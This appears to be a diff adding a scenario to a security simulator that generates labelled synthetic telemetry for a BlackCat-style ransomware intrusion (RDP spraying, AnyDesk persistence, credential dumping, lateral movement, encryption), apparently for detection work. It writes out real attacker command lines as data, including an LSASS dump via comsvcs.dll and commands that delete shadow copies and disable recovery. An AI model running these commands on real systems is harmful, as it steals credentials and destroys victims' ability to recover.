@@ -1,0 +1,310 @@
+"""BlackCat (ALPHV)-style intrusion through valid accounts on an exposed RDP server.
+
+Timeline (minutes): 0 sweep of the public range (RDP, SSH) and SSH probing of the Linux server;
+40 password spraying against the RDP server (4625); 45 RDP logon with a sprayed account (4624
+type 10 from the internet); 50 toolkit downloaded (payload hash); 52 remote-access tool installed
+as a service; 53 on, its relay connections; 60 discovery burst; 70 LSASS dumped with comsvcs.dll;
+85 PsExec-style move to the file server; 95 shadow copies deleted and recovery disabled; 97
+encryption (random extension + RECOVER note).
+"""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable
+
+from chainbreaker.simulate import hostactions as act
+from chainbreaker.simulate import network as net
+from chainbreaker.simulate.model import Environment, Label
+from chainbreaker.simulate.noise_linux import syslog
+from chainbreaker.simulate.scenarios import steps
+from chainbreaker.simulate.scenarios.base import Plan, Scenario, register
+from chainbreaker.simulate.telemetry import Telemetry
+
+ATTACKER = "198.51.100.61"
+KIT_IP, KIT = "198.51.100.77", "share-files.example.org"
+RELAY_IP, RELAY = "203.0.113.140", "relay-7.example.net"
+EXT = ".sykffle"
+
+L_RECON = Label("sweep of the public range", "reconnaissance", "T1595.001", "reconnaissance")
+L_PROBE = Label("SSH probing", "reconnaissance", "T1595.002", "reconnaissance")
+L_WEAPON = Label("toolkit staged for download", "weaponization", "T1608.001", "resource-development")
+L_SPRAY = Label("password spraying over RDP", "delivery", "T1110.003", "credential-access")
+L_LOGON = Label(
+    "RDP logon with a valid account from the internet", "exploitation", "T1078.002", "initial-access"
+)
+L_SERVICE = Label("remote-access tool installed as a service", "installation", "T1543.003", "persistence")
+L_C2 = Label("remote-access tool relay traffic", "command-and-control", "T1219", "command-and-control")
+L_WHOAMI = Label("discovery: whoami", "actions-on-objectives", "T1033", "discovery")
+L_GROUPS = Label("discovery: domain admins group", "actions-on-objectives", "T1069.002", "discovery")
+L_DCLIST = Label("discovery: domain controllers", "actions-on-objectives", "T1018", "discovery")
+L_SHARES = Label("discovery: file shares", "actions-on-objectives", "T1135", "discovery")
+L_DUMP = Label("LSASS dumped with comsvcs.dll", "actions-on-objectives", "T1003.001", "credential-access")
+L_LATERAL = Label("lateral movement over ADMIN$", "actions-on-objectives", "T1021.002", "lateral-movement")
+L_EXEC = Label("remote service execution", "actions-on-objectives", "T1569.002", "execution")
+L_RECOVERY = Label("shadow copies deleted, recovery disabled", "actions-on-objectives", "T1490", "impact")
+L_ENCRYPT = Label("files encrypted", "actions-on-objectives", "T1486", "impact")
+
+KIT_SHA256 = "4E7A0C93D2B1F6A85C3E9D7B2A1F0E6D5C4B3A29180F7E6D5C4B3A2918AFBE01"
+
+
+@register
+class BlackCat(Scenario):
+    name = "blackcat"
+    description = (
+        "RDP password spraying -> valid-account logon -> "
+        "remote-access tool -> credential dumping -> BlackCat encryption"
+    )
+    roles = ("terminal",)
+    duration = 100 * 60.0
+
+    def plan(self, env: Environment, rng: random.Random, start: float) -> Plan:
+        plan = Plan(start)
+        ts, fs = env.first("terminal"), env.first("fileserver")
+        linux = next(h for h in env.hosts if h.os == "linux")
+        victim = ts.user
+        assert victim is not None
+        admin = next(u for u in env.users if u.admin)
+        s = plan.state
+
+        def recon(tel: Telemetry, t: float) -> None:
+            public = [(ts, f"192.0.2.{i}") for i in range(1, 33)]  # the organisation's public /27
+            targets = [*public, (ts, ts.ip), (linux, linux.ip)]
+            steps.external_scan(
+                tel, t, ATTACKER, targets, (22, 443, 3389), L_RECON, rng, {ts.ip: {3389}, linux.ip: {22}}
+            )
+            for i, user in enumerate(("admin", "ubuntu", "test", "oracle")):
+                pid = rng.randrange(2000, 60000)
+                at = t + 120 + i * rng.uniform(2, 6)
+                port = rng.randrange(40000, 65000)
+                syslog(
+                    tel, linux, at, "sshd", pid, f"Invalid user {user} from {ATTACKER} port {port}", L_PROBE
+                )
+                syslog(
+                    tel,
+                    linux,
+                    at + 0.3,
+                    "sshd",
+                    pid,
+                    f"Connection closed by invalid user {user} {ATTACKER} port {port} [preauth]",
+                    L_PROBE,
+                )
+
+        def spray(tel: Telemetry, t: float) -> None:
+            candidates = [u.sam for u in env.users if not u.spn][:12]
+            for i, sam in enumerate(candidates):
+                port = rng.randrange(40000, 65000)
+                at = t + i * rng.uniform(4, 9)
+                net.connect(
+                    tel,
+                    at,
+                    ts,
+                    ts.ip,
+                    3389,
+                    src_ip=ATTACKER,
+                    src_port=port,
+                    service="ssl",
+                    duration=1.2,
+                    orig_bytes=2100,
+                    resp_bytes=3400,
+                    label=L_SPRAY,
+                )
+                act.failed_logon(tel, ts, at + 0.5, sam, 3, ATTACKER, port, "kali", L_SPRAY)
+
+        def logon(tel: Telemetry, t: float) -> None:
+            port = rng.randrange(40000, 65000)
+            net.connect(
+                tel,
+                t,
+                ts,
+                ts.ip,
+                3389,
+                src_ip=ATTACKER,
+                src_port=port,
+                service="ssl",
+                duration=3250.0,
+                orig_bytes=4_800_000,
+                resp_bytes=38_000_000,
+                label=L_LOGON,
+            )
+            lid = act.logon(
+                tel, ts, t + 1.5, victim, 10, ATTACKER, port, "kali", package="Negotiate", label=L_LOGON
+            )
+            explorer = act.session_user(tel, ts, victim, t + 2)
+            s["explorer"] = explorer
+            s["logon"] = lid
+
+        def weapon(tel: Telemetry, t: float) -> None:
+            browser = act.spawn(
+                tel,
+                ts,
+                t,
+                s["explorer"],
+                "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
+                f'"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" https://{KIT}/d/kit.zip',
+                label=L_WEAPON,
+            )
+            net.resolve(tel, t + 0.5, ts, KIT, [KIT_IP], proc=browser, label=L_WEAPON)
+            net.connect(
+                tel,
+                t + 0.6,
+                ts,
+                KIT_IP,
+                443,
+                proc=browser,
+                service="ssl",
+                dst_name=KIT,
+                sni=KIT,
+                duration=6.0,
+                orig_bytes=2200,
+                resp_bytes=8_400_000,
+                label=L_WEAPON,
+            )
+            path = f"C:\\Users\\{victim.sam}\\Downloads\\kit.zip"
+            act.file_create(tel, ts, t + 7, browser, path, L_WEAPON)
+            act.stream_hash(
+                tel, ts, t + 7.01, browser, path, KIT_SHA256, f"https://{KIT}/d/kit.zip", L_WEAPON
+            )
+
+        def install(tel: Telemetry, t: float) -> None:
+            cmd = act.spawn(
+                tel, ts, t, s["explorer"], steps.CMD, "cmd.exe", label=L_SERVICE, integrity="High"
+            )
+            s["cmd"] = cmd
+            act.spawn(
+                tel,
+                ts,
+                t + 5,
+                cmd,
+                "C:\\ProgramData\\AnyDesk\\AnyDesk.exe",
+                "C:\\ProgramData\\AnyDesk\\AnyDesk.exe --install "
+                "C:\\ProgramData\\AnyDesk --start-with-win --silent",
+                label=L_SERVICE,
+            )
+            s["rat"] = act.install_service(
+                tel,
+                ts,
+                t + 6,
+                cmd,
+                "AnyDesk",
+                '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service',
+                '"C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --service',
+                L_SERVICE,
+            )
+
+        def relay(first: bool) -> Callable[[Telemetry, float], None]:
+            def run(tel: Telemetry, t: float) -> None:
+                if first:
+                    net.resolve(tel, t, ts, RELAY, [RELAY_IP], proc=s["rat"], label=L_C2)
+                net.connect(
+                    tel,
+                    t + 0.1,
+                    ts,
+                    RELAY_IP,
+                    443,
+                    proc=s["rat"],
+                    service="ssl",
+                    dst_name=RELAY,
+                    sni=RELAY,
+                    duration=rng.uniform(200, 600),
+                    orig_bytes=rng.randrange(40_000, 900_000),
+                    resp_bytes=rng.randrange(100_000, 3_000_000),
+                    label=L_C2,
+                    sysmon=first,
+                )
+
+            return run
+
+        def discovery(tel: Telemetry, t: float) -> None:
+            steps.discovery_burst(
+                tel,
+                ts,
+                t,
+                s["cmd"],
+                [
+                    ("C:\\Windows\\System32\\whoami.exe", "whoami /groups", L_WHOAMI),
+                    ("C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain', L_GROUPS),
+                    ("C:\\Windows\\System32\\nltest.exe", f"nltest /dclist:{env.domain}", L_DCLIST),
+                    ("C:\\Windows\\System32\\net.exe", f"net view \\\\{fs.name} /all", L_SHARES),
+                ],
+            )
+
+        def dump(tel: Telemetry, t: float) -> None:
+            lsass = tel.state(ts).base["lsass"]
+            proc = act.spawn(
+                tel,
+                ts,
+                t,
+                s["cmd"],
+                steps.RUNDLL32,
+                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
+                f"MiniDump {lsass.pid} C:\\ProgramData\\lsass.dmp full",
+                label=L_DUMP,
+            )
+            steps.lsass_access(tel, ts, t + 0.2, proc, L_DUMP, access="0x1fffff")
+            act.file_create(tel, ts, t + 1.5, proc, "C:\\ProgramData\\lsass.dmp", L_DUMP)
+
+        def lateral(tel: Telemetry, t: float) -> None:
+            s["svc"] = steps.psexec_lateral(tel, ts, fs, t, admin, "PSEXESVC", L_LATERAL, L_EXEC)
+
+        def impact(tel: Telemetry, t: float) -> None:
+            for host, parent in ((fs, s["svc"]), (ts, s["cmd"])):
+                steps.delete_shadows(tel, host, t, parent, L_RECOVERY)
+                act.spawn(
+                    tel,
+                    host,
+                    t + 2,
+                    parent,
+                    "C:\\Windows\\System32\\wbem\\WMIC.exe",
+                    "wmic.exe shadowcopy delete /nointeractive",
+                    label=L_RECOVERY,
+                )
+                act.spawn(
+                    tel,
+                    host,
+                    t + 4,
+                    parent,
+                    "C:\\Windows\\System32\\bcdedit.exe",
+                    "bcdedit.exe /set {default} recoveryenabled No",
+                    label=L_RECOVERY,
+                )
+                t += 30
+            ransom = act.spawn(
+                tel,
+                fs,
+                t + 60,
+                s["svc"],
+                "C:\\Windows\\locker.exe",
+                "C:\\Windows\\locker.exe --access-token 7f3c21 --no-prop-servers",
+                label=L_ENCRYPT,
+            )
+            note = f"RECOVER-{EXT[1:]}-FILES.txt"
+            steps.encrypt_files(tel, fs, t + 62, ransom, "D:\\Shares", 100, EXT, note, L_ENCRYPT, rng)
+            steps.encrypt_files(
+                tel,
+                ts,
+                t + 70,
+                s["cmd"],
+                f"C:\\Users\\{victim.sam}\\Documents",
+                25,
+                EXT,
+                note,
+                L_ENCRYPT,
+                rng,
+            )
+
+        plan.at(0, recon)
+        plan.at(40 * 60, spray)
+        plan.at(45 * 60, logon)
+        plan.at(50 * 60, weapon)
+        plan.at(52 * 60, install)
+        plan.at(53 * 60, relay(True))
+        t = 53 * 60 + rng.uniform(280, 320)
+        while t < self.duration:
+            plan.at(t, relay(False))
+            t += rng.uniform(280, 320)
+        plan.at(60 * 60, discovery)
+        plan.at(70 * 60, dump)
+        plan.at(85 * 60, lateral)
+        plan.at(95 * 60, impact)
+        return plan
